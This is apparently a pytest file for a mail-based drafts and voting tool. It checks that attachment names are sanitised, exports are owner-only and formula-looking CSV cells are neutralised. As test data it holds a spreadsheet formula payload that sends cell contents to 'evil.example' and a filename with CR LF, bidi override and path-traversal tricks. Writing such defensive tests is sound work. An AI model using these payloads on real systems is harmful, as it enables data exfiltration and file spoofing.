"""What a member's file names and words can do to stored and exported files: nothing.

Attachment names are cleaned when stored (a CR LF in an RFC 2231 name once made the author's
digest fail for good); exports are 0600 files in 0700 folders with formula-looking cells
neutralised; Maildir folders are 0700. Real Dovecot + SMTP for the mail, the CLI for exports.
"""
from __future__ import annotations

import csv
import io
import os
import stat

import pytest

from convenor import cli
from tests.fixtures_convenor import Network
from tests.mailstack import as_bytes
from tests.test_drafts_circulation import DEADLINE, MEMBERS, circulate

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'
BAD_NAME = b"filename*=utf-8''notes%0D%0A%E2%80%AEfdp.exe%0D%0A..%2F..%2Fx.pdf"
LONG_NAME = "minutes " + "very " * 60 + "long.docx"  # 308 characters


@pytest.fixture
def net(mail_stack, tmp_path):
    (tmp_path / "net").mkdir()
    network = Network(tmp_path / "net", stack=mail_stack, members=MEMBERS)
    yield network
    network.close()


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def _reply_with_raw_filename(net, received, sender: str, text: str, disposition: bytes) -> None:
    """A reply whose attachment's Content-Disposition names the file as `disposition` says."""
    msg = net.compose(sender, f"Re: {received.subject}", text, to=received.reply_to,
                      attachments=[("PLACEHOLDER.pdf", "application/pdf", b"%PDF-1.4 notes")],
                      headers={"In-Reply-To": received.message_id, "References": received.message_id})
    raw = as_bytes(msg).replace(b'filename="PLACEHOLDER.pdf"', disposition)
    assert disposition in raw
    net.deliver(raw)


def test_a_file_named_with_line_breaks_and_bidi_overrides_cannot_stop_the_digest(net):
    out = circulate(net)
    kofi = net.only_message_to("kofi@example.org", out)
    _reply_with_raw_filename(net, kofi, "kofi@example.org", "My notes attached.", BAD_NAME)
    net.reply(net.only_message_to("li@example.org", out), "See the minutes.",
              attachments=[(LONG_NAME, "application/octet-stream", b"PK minutes")])
    net.step()
    names = [f["filename"] for f in _feedback_files(net)]
    assert "notes fdp.exe .._.._x.pdf" in names
    assert all(len(n) <= 150 and n.isprintable() for n in names)

    net.set_time(DEADLINE)
    net.step()
    assert net.db.execute("SELECT count(*) FROM outbox WHERE state = 'failed'").fetchone()[0] == 0
    digest = net.only_message_to("amina@example.org", net.new_messages())
    files = [name for name, _, _ in digest.attachments]
    assert "Kofi Mensah - notes fdp.exe .._.._x.pdf" in files
    long = next(n for n in files if n.startswith("Li Wei - minutes"))
    assert len(long) == 150 and long.endswith(".docx")


def _feedback_files(net) -> list[dict]:
    from store import drafts as store_drafts
    return [a for f in store_drafts.feedback(net.db, 1) for a in f["attachments"]]


def test_exports_are_the_owners_alone_and_no_cell_runs_as_a_formula(net, tmp_path, capsys):
    old_umask = os.umask(0o022)
    try:
        out = circulate(net)
        net.reply(net.only_message_to("li@example.org", out), HYPERLINK)
        net.reply(net.only_message_to("kofi@example.org", out), "-1 from me\n\nKofi",
                  attachments=[(LONG_NAME, "application/octet-stream", b"PK minutes")])
        net.send("Amina Diallo <amina@example.org>", "[Vote] +Adopt the brochure", "Closes: in 7 days\n\nAdopt it.\n")
        net.step()
        config = ["--config", str(net.config)]

        target = tmp_path / "exports" / "draft-1"
        assert cli.main(config + ["drafts", "export", "1", "--to", str(target)]) == 0
        assert _mode(tmp_path / "exports") == 0o700 and _mode(target) == 0o700
        assert _mode(target / "attachments") == 0o700 and _mode(target / "feedback.csv") == 0o600
        files = list((target / "attachments").iterdir())
        assert len(files) == 1 and _mode(files[0]) == 0o600 and len(files[0].name) <= 150
        assert files[0].name.startswith("Kofi Mensah - minutes") and files[0].name.endswith(".docx")
        with open(target / "feedback.csv", encoding="utf-8") as f:
            bodies = {r["member"]: r["body"] for r in csv.DictReader(f)}
        assert bodies["Li Wei"] == "'" + HYPERLINK and bodies["Kofi Mensah"].startswith("'-1 from me")

        votes_csv = tmp_path / "vote.csv"
        assert cli.main(config + ["votes", "export", "1", "--to", str(votes_csv)]) == 0
        assert _mode(votes_csv) == 0o600
        rows = list(csv.DictReader(io.StringIO(votes_csv.read_text(encoding="utf-8"))))
        assert rows and all(r["title"] == "'+Adopt the brochure" for r in rows)

        assert cli.main(config + ["members", "add", "eve@example.org", "--name", "=1+2"]) == 0
        members_csv = tmp_path / "members.csv"
        assert cli.main(config + ["members", "export", str(members_csv)]) == 0
        assert _mode(members_csv) == 0o600 and "'=1+2,eve@example.org" in members_csv.read_text()
        assert cli.main(config + ["members", "import", str(members_csv)]) == 0  # read back as written
        capsys.readouterr()
        assert cli.main(config + ["members", "list", "--json"]) == 0
        assert '"=1+2"' in capsys.readouterr().out
    finally:
        os.umask(old_umask)


def test_maildir_folders_are_the_owners_alone(maildir_network):
    old_umask = os.umask(0o022)
    try:
        maildir_network.send("Jean Tremblay <jean@example.org>", "HELP")
        maildir_network.step()
    finally:
        os.umask(old_umask)
    mailbox = maildir_network.settings.mailbox.path
    outbox = maildir_network.settings.sending.path
    folders = [mailbox, f"{mailbox}/.Processed", f"{mailbox}/.Quarantine", outbox]
    for folder in folders:
        for sub in ("", "/tmp", "/new", "/cur"):
            assert _mode(folder + sub) == 0o700, folder + sub
    assert os.listdir(f"{mailbox}/.Processed/cur") or os.listdir(f"{mailbox}/.Processed/new")
